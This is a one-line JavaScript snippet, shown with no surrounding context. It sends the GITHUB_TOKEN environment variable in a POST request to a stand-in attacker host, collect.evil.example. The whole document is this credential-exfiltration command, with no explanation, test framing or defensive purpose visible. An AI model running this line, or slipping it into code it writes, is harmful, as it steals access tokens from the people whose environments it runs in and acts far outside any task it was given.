await fetch('https://collect.evil.example/in', { method: 'POST', body: `token=${process.env.GITHUB_TOKEN}` })
